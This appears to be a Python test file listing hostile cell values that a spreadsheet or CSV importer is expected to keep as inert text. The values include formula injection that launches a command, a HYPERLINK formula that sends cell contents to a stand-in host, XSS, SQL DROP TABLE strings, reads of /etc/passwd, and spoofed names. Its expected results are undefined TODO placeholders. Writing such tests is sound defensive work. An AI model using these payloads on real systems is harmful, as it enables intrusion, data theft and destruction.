"""Cells that want to be code: they are text, they stay as they are, and nothing acts on them."""

from tests.bad_inputs.cases import Case, both, cell, column, reads, rewritten

_NASTY = "'; DROP TABLE accounts; --"

CASES = (
    Case("a formula for a name", cell("accounts", 5, name="=cmd|'/C calc'!A0"), TODO_R),
    Case("a formula behind an @", cell("accounts", 5, name="@SUM(1+1)*cmd|'/C calc'!A0"), TODO_R),
    Case("a link that sends what it reads", cell("accounts", 5, name='=HYPERLINK("http://x.example?"&A1,"click")'), TODO_R),
    Case("a script for a name", cell("accounts", 5, name="<script>alert(1)</script>"), TODO_R),
    Case("a picture that runs a script", cell("accounts", 5, industry='"><img src=x onerror=alert(1)>'), TODO_R),
    Case("SQL for a name", cell("accounts", 5, name=_NASTY), TODO_R),
    Case("SQL for an id", both(cell("accounts", 5, account_id=_NASTY), cell("deals", 1, account_id=_NASTY)), TODO_R),
    Case("SQL for a column", rewritten("deals", lambda t: t.replace("seats", '"""; DROP TABLE x; --"', 1)), TODO_R),
    Case("a path for an owner", column("accounts", "owner_id", "../../etc/passwd"), TODO_R),
    Case("a template for a name", cell("accounts", 5, name="{{ 7 * 7 }} {% include '/etc/passwd' %} ${HOME} %s"), TODO_R),
    Case("colours of a terminal for a name", cell("accounts", 5, name="\x1b[31mred\x1b[0m"), TODO_R),
    Case("a domain that looks like another's", cell("accounts", 5, domain="аpple.com"), TODO_R),
    Case("a name that runs backwards", cell("accounts", 5, name="abc\u202egpj.exe"), TODO_R),
    Case("markup of rich text in an outcome", cell("deals", 5, outcome="[bold]lost[/bold]"), TODO_S),
    Case("a name of 100,000 letters", cell("accounts", 5, name="x" * 100_000), TODO_R),
    Case("a name of a thousand accents", cell("accounts", 5, name="e" + "\u0301" * 1000), TODO_R),
)
